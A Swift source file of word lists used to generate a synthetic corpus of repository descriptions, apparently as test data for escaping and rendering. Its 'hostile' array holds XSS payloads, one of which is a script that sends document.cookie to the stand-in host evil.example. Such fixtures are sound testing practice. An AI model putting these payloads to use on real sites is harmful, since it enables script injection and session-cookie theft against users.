/// Word lists the corpus is generated from.
enum Words {
    static let syllables = [
        "ka", "ro", "mi", "ta", "be", "lo", "su", "ne", "vi", "da", "zen", "qu", "ar", "el", "on", "pix", "dev",
        "max", "jo", "li", "ra", "to", "sa", "ki", "no", "mo", "fu", "ha", "ce", "yo",
    ]
    static let ownerSuffixes = ["labs", "dev", "io", "hq", "oss", "team", "org", "code"]
    static let adjectives = [
        "fast", "tiny", "awesome", "simple", "async", "reactive", "lazy", "secure", "modern", "minimal", "smart",
        "open", "super", "hyper", "quick", "clean", "swift", "rusty", "pure", "strict", "live", "cloud", "deep",
    ]
    static let nouns = [
        "parser", "router", "cache", "server", "client", "logger", "editor", "compiler", "search", "engine", "queue",
        "database", "framework", "toolkit", "bot", "dashboard", "scheduler", "proxy", "crawler", "renderer", "game",
        "shell", "terminal", "linter", "formatter", "http", "json", "graph", "layout", "camera", "player", "charts",
        "auth", "vault", "notes", "wiki", "kanban", "pipeline", "orm", "sdk",
    ]
    static let topics = [
        "swift", "ios", "web", "cli", "machine-learning", "database", "http", "json", "security", "game", "linux",
        "macos", "android", "react", "docker", "kubernetes", "api", "testing", "performance", "ui", "async",
        "networking", "parser", "compiler", "github", "devtools", "data-science", "rust", "golang", "python",
    ]
    static let languages: [(String, Int)] = [
        ("JavaScript", 18), ("Python", 17), ("TypeScript", 12), ("Java", 9), ("Go", 8), ("C++", 6), ("Rust", 6),
        ("Swift", 5), ("Ruby", 4), ("C", 4), ("C#", 4), ("PHP", 3), ("Kotlin", 3), ("Shell", 3), ("Objective-C", 2),
        ("Haskell", 1), ("Elixir", 1),
    ]
    static let templates = [
        "A {adj} {noun} for {lang}", "{adj} {noun} written in {lang}, with {topic} support",
        "The {noun} behind {name}: {adj}, tested, documented", "Yet another {noun} — but {adj}",
        "{name}: a {adj} {topic} {noun}", "Experimental {topic} {noun} (work in progress)",
        "Production-ready {noun} for {topic} & {lang} projects", "{adj} {noun} — \"zero\" dependencies",
    ]
    static let hostile = [
        "<script>alert(1)</script> a totally normal parser",
        "<img src=x onerror=alert('xss')> image tools",
        "\"><svg/onload=alert(document.domain)> svg helpers",
        "Bold <b>claims</b> & <i>italics</i> & entities &amp; &lt;tags&gt;",
        "javascript:alert(1) link handler",
        "Line one\nLine two\r\nwith\ttabs and \u{0007} bell",
        "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
        "{{constructor.constructor('alert(1)')()}} template engine",
    ]
    static let unicode = [
        "Schnelle Bibliothek für Zürich 🚀✨",
        "مكتبة بحث سريعة للمستودعات",
        "ספריית חיפוש \u{202E}txet desrever\u{202C} מהירה",
        "Z\u{0351}\u{0352}a\u{0308}\u{0301}l\u{0327}g\u{0300}o\u{0303} text renderer",
        "e\u{0301}te\u{0301} cafe\u{0301} — combining accents",
        "日本語の検索ライブラリ（高速）",
        "Family 👨‍👩‍👧‍👦 flags 🇺🇦🇯🇵 skin 👍🏽 emoji toolkit",
        "Zero\u{200B}width\u{200D}joiners and \u{FEFF}BOM",
        "한국어 형태소 분석기",
        "𝕱𝖗𝖆𝖐𝖙𝖚𝖗 math alphanumerics 𝟙𝟚𝟛",
    ]
}
